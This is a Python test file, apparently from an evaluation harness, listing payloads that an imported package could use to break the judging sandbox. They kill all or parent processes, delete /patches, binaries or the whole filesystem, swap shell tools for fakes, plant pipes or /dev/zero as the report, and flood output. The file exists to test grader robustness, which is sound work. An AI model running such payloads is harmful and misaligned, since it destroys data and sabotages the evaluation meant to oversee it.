"""Against the sandbox that judges, by code that runs when the package is imported: who breaks it has failed, and is not an `infra_error`.

On shelfdb, feature 3.
"""

from tests.evaluation.attacks.attack import Attack

ATTACKS = {
    "end every process": Attack(trick="Send SIGKILL to everything.", code="import os\nos.kill(-1, 9)\n"),
    "end every process, with SIGTERM": Attack(
        trick="Ask everything to end, and go on.",
        code="import os, signal\nsignal.signal(15, signal.SIG_IGN)\nos.kill(-1, 15)\n",
    ),
    "stop every process": Attack(trick="Stop everything, without an end.", code="import os\nos.kill(-1, 19)\n"),
    "end the parents": Attack(
        trick="End each process above, up to the first.",
        code="import os, signal\n_pid = os.getppid()\n"
        "while _pid > 0:\n"
        "    with open(f'/proc/{_pid}/stat') as _f: _above = int(_f.read().rsplit(')', 1)[1].split()[1])\n"
        "    try: os.kill(_pid, 9)\n    except OSError: pass\n"
        "    _pid = _above\n",
    ),
    "remove the evaluator's files": Attack(
        trick="Remove everything below /patches.",
        code="import shutil\nshutil.rmtree('/patches', ignore_errors=True)\n",
    ),
    "remove the programs": Attack(
        trick="Remove every shell, and what reads and writes files.",
        code="import os\nfor _d in ('/bin', '/usr/bin', '/usr/local/bin'):\n"
        "    for _n in ('sh', 'bash', 'dash', 'cat', 'tar', 'env', 'head', 'mkdir', 'mv', 'rm', 'base64', 'dd', 'git'):\n"
        "        try: os.remove(f'{_d}/{_n}')\n        except OSError: pass\n",
    ),
    "remove everything": Attack(
        trick="Remove whatever can be removed.",
        code="import os\nfor _top in ('workspace', 'patches', 'tmp', 'var', 'root', 'home', 'etc', 'usr', 'bin', 'lib', 'lib64', 'opt'):\n"
        "    for _r, _ds, _fs in os.walk('/' + _top, topdown=False):\n"
        "        for _n in _fs:\n            try: os.remove(os.path.join(_r, _n))\n            except OSError: pass\n"
        "os._exit(0)\n",
    ),
    "replace the programs": Attack(
        trick="Put a program that prints nonsense in the place of each that the harness may start.",
        code="import os\nfor _d in ('/bin', '/usr/bin', '/usr/local/bin'):\n"
        "    for _n in ('cat', 'tar', 'head', 'base64', 'dd', 'stat', 'wc', 'sh', 'dash', 'bash'):\n"
        "        _p = f'{_d}/{_n}'\n"
        "        if not os.path.exists(_p): continue\n"
        "        try:\n            os.remove(_p); open(_p, 'w').write('#!/usr/bin/python3\\nprint(12345)\\n'); os.chmod(_p, 0o755)\n        except OSError: pass\n",
    ),
    "a pipe in the place of the report": Attack(
        trick="Put pipes that nobody writes to where the evaluator reads.",
        code="import glob, os\nfor _p in glob.glob('/patches/*/reporter/*') + ['/patches/x']:\n"
        "    try: os.remove(_p)\n    except OSError: pass\n"
        "    try: os.mkfifo(_p)\n    except OSError: pass\n"
        "os._exit(0)\n",
    ),
    "pipes, again and again": Attack(
        trick="The same from a process that goes on.",
        code="import os, subprocess, sys\nsubprocess.Popen([sys.executable, '-c', '''\n"
        "import glob, os\nwhile True:\n"
        "    for d in glob.glob('/patches/*/'):\n"
        "        try: os.mkfifo(d + 'p'); os.rename(d + 'p', d + 'reporter/report')\n"
        "        except OSError: pass\n'''], start_new_session=True)\n",
    ),
    "a device in the place of the report": Attack(
        trick="Let the evaluator read zeros without an end.",
        code="import glob, os\nfor _d in glob.glob('/patches/*/'):\n"
        "    os.path.exists(_d + 'reporter/report') and os.remove(_d + 'reporter/report')\n    os.symlink('/dev/zero', _d + 'reporter/report')\n    os.remove(_d + 'reporter/state')\n    os.mkdir(_d + 'reporter/state')\nos._exit(0)\n",
    ),
    "speak for the supervisor": Attack(
        trick="Write into every stream of every process.",
        code="import glob, os\nfor _p in glob.glob('/proc/[0-9]*/fd/*'):\n"
        "    try:\n        _fd = os.open(_p, os.O_WRONLY | os.O_NONBLOCK); os.write(_fd, b'\\0\\xff{}\\n' * 9)\n    except OSError: pass\n",
    ),
    "a huge report": Attack(
        trick="Write a report that is larger than what the evaluator wants to read.",
        code="import glob, os\nfor _p in glob.glob('/patches/*/reporter'):\n"
        "    with open(_p + '/report', 'wb') as _out:\n        for _ in range(300): _out.write(b'0 ' + b'a' * (1 << 20))\nos._exit(0)\n",
    ),
    "output without a line": Attack(
        trick="Print bytes that are no text, and leave.",
        code="import os\nfor _ in range(64): os.write(1, bytes(range(256)) * 512)\nos._exit(0)\n",
    ),
}
